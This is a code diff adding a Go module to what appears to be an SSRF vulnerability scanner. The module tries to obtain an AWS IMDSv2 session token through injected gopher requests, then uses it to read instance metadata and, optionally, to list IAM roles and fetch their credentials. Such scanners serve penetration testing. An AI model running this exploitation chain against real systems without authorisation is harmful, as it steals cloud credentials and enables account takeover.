@@ -0,0 +1,81 @@
+package scanner
+
+import (
+	"context"
+	"fmt"
+	"gosssrf-client/detector"
+	"gosssrf-client/payloads"
+	"log/slog"
+	"regexp"
+	"strings"
+)
+
+// imdsTokenPattern IMDSv2会话令牌（Base64字符串）
+var imdsTokenPattern = regexp.MustCompile(`[A-Za-z0-9_+/=-]{40,}`)
+
+// scanIMDSv2 AWS IMDSv2 多步检测：先通过SSRF发送PUT请求申请会话令牌，再携带令牌读取元数据
+// 开启IMDSv2的实例直接访问元数据会返回401，只发送GET请求时会被误判为不存在漏洞
+func (sm *ScanManager) scanIMDSv2(ctx context.Context, target string, params map[string]string) {
+	tokenPayload := payloads.GetIMDSv2TokenPayload()
+	if sm.excluded(tokenPayload) {
+		return
+	}
+
+	for param := range params {
+		if sm.stopped(ctx) {
+			return
+		}
+
+		method, testURL, body, err := sm.buildRequest(target, param, tokenPayload.Value)
+		if err != nil {
+			continue
+		}
+		slog.Info(fmt.Sprintf("[%s] 参数 %s 尝试通过gopher申请IMDSv2令牌", target, param), "target", target, "param", param)
+
+		_, respBody, err := sm.detector.Fetch(ctx, method, testURL, body)
+		if err != nil {
+			continue
+		}
+		token := extractIMDSToken(respBody, sm.baseline(target, param))
+		if token == "" {
+			continue
+		}
+
+		slog.Info(fmt.Sprintf("[%s] 参数 %s 获取到疑似IMDSv2令牌，携带令牌读取元数据", target, param), "target", target, "param", param)
+		for _, payload := range payloads.GetIMDSv2MetadataPayloads(token) {
+			if sm.excluded(payload) {
+				continue
+			}
+			if !sm.testPayload(ctx, target, param, payload) {
+				return
+			}
+		}
+
+		// 携带令牌读取实例角色列表，再请求角色凭据
+		if sm.config.ExploitMetadata {
+			credential := func(role string) payloads.Payload { return payloads.GetIMDSv2CredentialPayload(token, role) }
+			if !sm.followCredentials(ctx, target, param, payloads.GetIMDSv2CredentialListing(token), credential) {
+				return
+			}
+		}
+	}
+}
+
+// extractIMDSToken 从令牌响应中提取会话令牌，基线响应中已存在的字符串不视为令牌
+// gopher返回原始HTTP响应时只在响应体中查找
+func extractIMDSToken(respBody string, baseline *detector.Baseline) string {
+	if strings.HasPrefix(respBody, "HTTP/1.") {
+		idx := strings.Index(respBody, "\r\n\r\n")
+		if idx == -1 {
+			return ""
+		}
+		respBody = respBody[idx+4:]
+	}
+
+	for _, candidate := range imdsTokenPattern.FindAllString(respBody, -1) {
+		if !baseline.Contains(candidate) {
+			return candidate
+		}
+	}
+	return ""
+}